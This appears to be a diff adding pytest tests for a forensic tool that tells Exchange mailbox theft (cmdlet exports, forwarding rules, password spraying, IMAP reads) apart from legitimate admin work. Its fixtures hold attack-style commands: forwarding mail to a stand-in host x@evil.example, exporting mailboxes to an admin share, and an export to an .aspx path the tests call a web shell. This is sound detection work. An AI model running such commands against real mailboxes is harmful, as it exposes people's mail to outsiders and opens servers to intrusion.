@@ -1,0 +1,249 @@
+"""Mail taken by cmdlet, passwords sprayed, and IMAP: what is laid to an intrusion, and what people do by right."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from datetime import timedelta
+from pathlib import Path
+from xml.sax.saxutils import escape
+
+import pytest
+from tests.scope.office import DAYS, FOREIGN, NETWORK, PEOPLE, START, facts, log_of, reasoned, visits, work
+from tests.scope.staged import iis_place, security_log, stage, text_log
+
+from dwell.answers.assemble import assemble
+from dwell.model.claims import EXPOSED, Grade
+from dwell.scope.investigation import Investigation
+from dwell.scope.takings import Taking, TakingKind, takings_of
+
+STOLEN = PEOPLE[:5]
+FILE = "\\\\127.0.0.1\\c$\\x\\{}.pst"
+Ran = tuple[str, str, str, str]
+"""When, cmdlet, parameters, caller."""
+
+
+def _at(day: int, hour: int, second: int = 0) -> str:
+    return f"{START + timedelta(days=day, hours=hour, seconds=second):%Y-%m-%d %H:%M:%S}"
+
+
+def _managed(ran: Sequence[Ran], *, event: int = 1) -> str:
+    events = []
+    for number, (at, cmdlet, told, caller) in enumerate(ran, 1):
+        data = "".join(f"<Data>{escape(one)}</Data>" for one in (cmdlet, told, caller))
+        events.append({"number": number, "event": event, "at": at, "provider": "MSExchange CmdletLogs",
+                       "user_data": f"<EventData>{data}</EventData>"})  # fmt: skip
+    return security_log(events, channel="MSExchange Management")
+
+
+def _export(person: str, day: int, hour: int, second: int = 0, *, caller: str = "gov.example/Admins/adm") -> Ran:
+    told = f'-Mailbox "{person}" -FilePath "{FILE.format(person[:3])}"'
+    return _at(day, hour, second), "New-MailboxExportRequest", told, caller
+
+
+def _taken(root: Path, ran: Sequence[Ran], **more: int) -> tuple[Taking, ...]:
+    staged = stage(root, {"EX01/management.xml": _managed(ran, **more)})
+    return takings_of(staged.archive, lambda text: text or None)
+
+
+def test_exports_and_forwarding_are_read_with_whose_and_where_to(tmp_path: Path) -> None:
+    rule = ' -Name "." -ForwardTo "x@evil.example"'
+    found = _taken(
+        tmp_path,
+        [
+            _export("anna", 1, 9),
+            (
+                _at(2, 9),
+                "Set-Mailbox",
+                '-Identity "otto" -ForwardingSmtpAddress "smtp:x@evil.example"',
+                "gov/Users/otto",
+            ),
+            (_at(3, 9), "New-InboxRule", f'-Mailbox "ines"{rule}', "gov/Users/ines"),
+            # without a mailbox named, it is that of whoever ran it
+            (_at(4, 9), "New-InboxRule", rule, "gov/Users/emma"),
+        ],
+    )
+    told = [(one.kind, one.mailbox, one.where) for one in found]
+    assert told == [
+        (TakingKind.EXPORT, "anna", FILE.format("ann")),
+        (TakingKind.FORWARDING, "otto", "smtp:x@evil.example"),
+        (TakingKind.FORWARDING, "ines", "x@evil.example"),
+        (TakingKind.FORWARDING, "emma", "x@evil.example"),
+    ]
+
+
+@pytest.mark.parametrize(
+    "ran",
+    [
+        # a page that is written is a web shell, no copy of a mailbox
+        ("New-MailboxExportRequest", '-Mailbox "anna" -FilePath "\\\\127.0.0.1\\c$\\x\\a.aspx"'),
+        ("New-MailboxExportRequest", '-Mailbox "anna" -FilePath "\\\\x\\a.pst" -WhatIf'),
+        ("Set-Mailbox", '-Identity "anna" -ForwardingSmtpAddress $null'),
+        ("Set-Mailbox", '-Identity "anna" -ProhibitSendQuota "10GB"'),
+        ("New-InboxRule", '-Mailbox "anna" -Name "News" -MoveToFolder "News"'),
+        ("Get-MailboxExportRequest", '-Mailbox "anna"'),
+    ],
+)
+def test_what_takes_no_mail_is_none(ran: tuple[str, str], tmp_path: Path) -> None:
+    assert _taken(tmp_path, [(_at(1, 9), *ran, "gov/Admins/adm")]) == ()
+
+
+def test_a_cmdlet_that_failed_took_nothing(tmp_path: Path) -> None:
+    assert _taken(tmp_path, [_export("anna", 1, 9)], event=6) == ()
+
+
+def test_one_act_in_two_logs_is_one(tmp_path: Path) -> None:
+    fields = "DateTime,StartTime,AuthenticatedUser,Cmdlet,Parameters,ExecutionResult"
+    told = f'-Mailbox "anna" -FilePath "{FILE.format("ann")}"'
+    row = {"DateTime": _at(1, 9, 4).replace(" ", "T") + ".000Z", "AuthenticatedUser": "GOV\\adm",
+           "Cmdlet": "New-MailboxExportRequest", "Parameters": told.replace('"', '""').join('""'),
+           "ExecutionResult": "Success"}  # fmt: skip
+    log = text_log("Rps Cmdlet Logs", fields, [row])
+    staged = stage(tmp_path, {"EX01/management.xml": _managed([_export("anna", 1, 9)]), "EX01/Rps_Cmdlet_1.LOG": log})
+    (one,) = takings_of(staged.archive, lambda text: text or None)
+    assert {ref.table for ref in one.grounds} == {"evtx", "rps_cmdlet"}
+
+
+def _office(root: Path, rows: list[dict[str, object]], ran: Sequence[Ran]) -> Investigation:
+    files: dict[str, str | bytes] = {iis_place("EX01", "210104"): log_of(work() + rows)}
+    return reasoned(stage(root, files | {"EX01/management.xml": _managed(ran)}))
+
+
+def _console(days: range, *, client: str, hour: int = 10) -> list[dict[str, object]]:
+    return visits("GOV\\adm", client, "WinRM", days, hour=hour, stem="/powershell")
+
+
+def test_exports_in_remote_powershell_from_where_the_account_never_works_are_an_intrusion(tmp_path: Path) -> None:
+    rows = _console(range(0, DAYS, 2), client="10.1.1.40") + _console(range(41, 42), client=f"{NETWORK}.14", hour=3)
+    ran = [_export(one, 41, 3, 20 + place) for place, one in enumerate(STOLEN)]
+    case = _office(tmp_path, rows, [*ran, _export(PEOPLE[9], 20, 10, 20)])
+    (held,) = case.held
+    assert held.clients == (f"{NETWORK}.14",)
+    assert {one.mailbox: one.grade for one in case.exposed} == dict.fromkeys(STOLEN, Grade.DOWNLOADED)
+    assert not held.exploited
+
+
+@pytest.mark.parametrize(
+    ("people", "elsewhere", "here"),
+    [
+        # two mailboxes are a leaver's and a case of law
+        (STOLEN[:2], range(0, DAYS, 2), range(41, 42)),
+        # where it works otherwise is not known
+        (STOLEN, range(38, 41), range(41, 42)),
+        # it works from there every other day
+        (STOLEN, range(0, DAYS, 2), range(1, DAYS, 2)),
+    ],
+)
+def test_an_administrator_who_may_is_no_intrusion_and_is_told(
+    people: Sequence[str], elsewhere: range, here: range, tmp_path: Path
+) -> None:
+    rows = _console(elsewhere, client="10.1.1.40") + _console(here, client=f"{NETWORK}.14", hour=3)
+    ran = [_export(one, 41, 3, 20 + place) for place, one in enumerate(people)]
+    staged = stage(
+        tmp_path,
+        {iis_place("EX01", "210104"): log_of(work() + rows), "EX01/management.xml": _managed(ran)},
+    )
+    case = reasoned(staged)
+    assert case.held == ()
+    assert len(case.takings) == len(people)
+    found = assemble(case, facts(staged))
+    assert not [one for one in found.mailboxes if one.grade in EXPOSED]
+    text = " ".join(claim.text for claim in found.claims)
+    assert "exported to files by adm" in text
+    assert "laid to no known intrusion" in text
+
+
+def _readers(days: range) -> list[dict[str, object]]:
+    return [row for one in STOLEN for row in visits(one, f"{NETWORK}.14", FOREIGN, days, hour=3)]
+
+
+def test_mail_sent_on_in_an_intruders_session_is_his_and_what_owners_set_is_theirs(tmp_path: Path) -> None:
+    told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
+    his = (_at(20, 3, 60), "Set-Mailbox", f'-Identity "{STOLEN[0]}" {told}', f"gov/Users/{STOLEN[0]}")
+    later = (_at(20, 14), "Set-Mailbox", f'-Identity "{STOLEN[1]}" {told}', f"gov/Users/{STOLEN[1]}")
+    other = (_at(20, 3, 60), "Set-Mailbox", f'-Identity "{PEOPLE[9]}" {told}', f"gov/Users/{PEOPLE[9]}")
+    case = _office(tmp_path, _readers(range(20, 44, 3)), [his, later, other])
+    grades = {one.mailbox: one.grade for one in case.exposed}
+    assert set(grades) == set(STOLEN)
+    assert {name for name, grade in grades.items() if grade is Grade.DOWNLOADED} == {STOLEN[0]}
+
+
+@pytest.mark.parametrize(("his", "exposed"), [(2, {PEOPLE[9]}), (1, set())])
+def test_mail_sent_on_to_where_his_acts_send_it_is_his(his: int, exposed: set[str], tmp_path: Path) -> None:
+    told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
+    ran = [(_at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}") for one in STOLEN[:his]]
+    rule = f'-Mailbox "{PEOPLE[9]}" -Name "." -ForwardTo "X@evil.example"'
+    case = _office(tmp_path, _readers(range(20, 44, 3)), [*ran, (_at(9, 15), "New-InboxRule", rule, "gov/Users/adm")])
+    assert {one.mailbox for one in case.exposed} == {*STOLEN, *exposed}
+
+
+def _tried(people: Sequence[str], *, day: int = 19, let_in: Sequence[str] = ()) -> list[dict[str, object]]:
+    rows: list[dict[str, object]] = []
+    for place, one in enumerate(people):
+        at = {"hour": 2, "stem": "/EWS/Exchange.asmx", "status": 200 if one in let_in else 401}
+        rows += visits(one, f"{NETWORK}.{14 + place % 2}", "Sprayer/1.0", [day], **at)  # type: ignore[arg-type]
+    return rows
+
+
+def test_a_spray_that_let_somebody_in_is_told_as_the_entry(tmp_path: Path) -> None:
+    rows = _tried(PEOPLE, let_in=STOLEN) + _readers(range(20, 44, 3))
+    case = _office(tmp_path, rows, [])
+    (spray,) = case.sprays
+    assert (spray.tried, spray.let_in) == (len(PEOPLE), tuple(sorted(STOLEN)))
+    (held,) = case.held
+    assert held.first_utc == START + timedelta(days=19, hours=2)
+
+
+@pytest.mark.parametrize(
+    ("people", "let_in"),
+    [
+        (PEOPLE, ()),
+        # a few who mistype
+        (PEOPLE[:9], PEOPLE[:1]),
+        # a gateway whose people sign in, and some of them mistype
+        (PEOPLE, PEOPLE[:14]),
+    ],
+)
+def test_what_is_no_spray_with_success_is_none(people: Sequence[str], let_in: Sequence[str], tmp_path: Path) -> None:
+    assert _office(tmp_path, _tried(people, let_in=let_in), []).sprays == ()
+
+
+_IMAP = "dateTime,sessionId,seqNumber,sIp,cIp,user,duration,rqsize,rpsize,command,parameters,context,puid"
+
+
+def _imap(person: str, client: str, days: range, hour: int) -> list[dict[str, object]]:
+    return [
+        {
+            "dateTime": _at(day, hour, place).replace(" ", "T") + ".000Z",
+            "sessionId": f"{person[:3]}{day}{client[-3:]}",
+            "seqNumber": place,
+            "sIp": "10.0.0.11:993",
+            "cIp": f"{client}:50000",
+            "user": person,
+            "command": command,
+            "parameters": told,
+            "context": "R=OK",
+            "rpsize": 900,
+        }
+        for day in days
+        for place, (command, told) in enumerate((("login", f"{person} *****"), ("fetch", "1:9 (BODY.PEEK[])")))
+    ]
+
+
+def _by_imap(root: Path, rows: list[dict[str, object]]) -> Investigation:
+    log = text_log("IMAP4 Log", _IMAP, sorted(rows, key=lambda one: (str(one["dateTime"]), str(one["sessionId"]))))
+    return reasoned(stage(root, {iis_place("EX01", "210104"): log_of(work()), "EX01/IMAP4_1.LOG": log}))
+
+
+def _at_home() -> list[dict[str, object]]:
+    return [row for place in range(15, 24) for row in _imap(PEOPLE[place], f"198.19.{place}.7", range(DAYS), 20)]
+
+
+def test_imap_from_one_place_for_accounts_that_never_speak_it_is_an_intrusion(tmp_path: Path) -> None:
+    rows = [row for one in STOLEN for row in _imap(one, f"{NETWORK}.14", range(20, 44, 3), 3)]
+    case = _by_imap(tmp_path, _at_home() + rows)
+    assert {one.mailbox: one.grade for one in case.exposed} == dict.fromkeys(STOLEN, Grade.READ)
+    assert case.held[0].clients == (f"{NETWORK}.0/24 IMAP (no agent is logged)",)
+
+
+def test_people_who_read_by_imap_at_home_have_nothing_in_common(tmp_path: Path) -> None:
+    assert _by_imap(tmp_path, _at_home()).held == ()
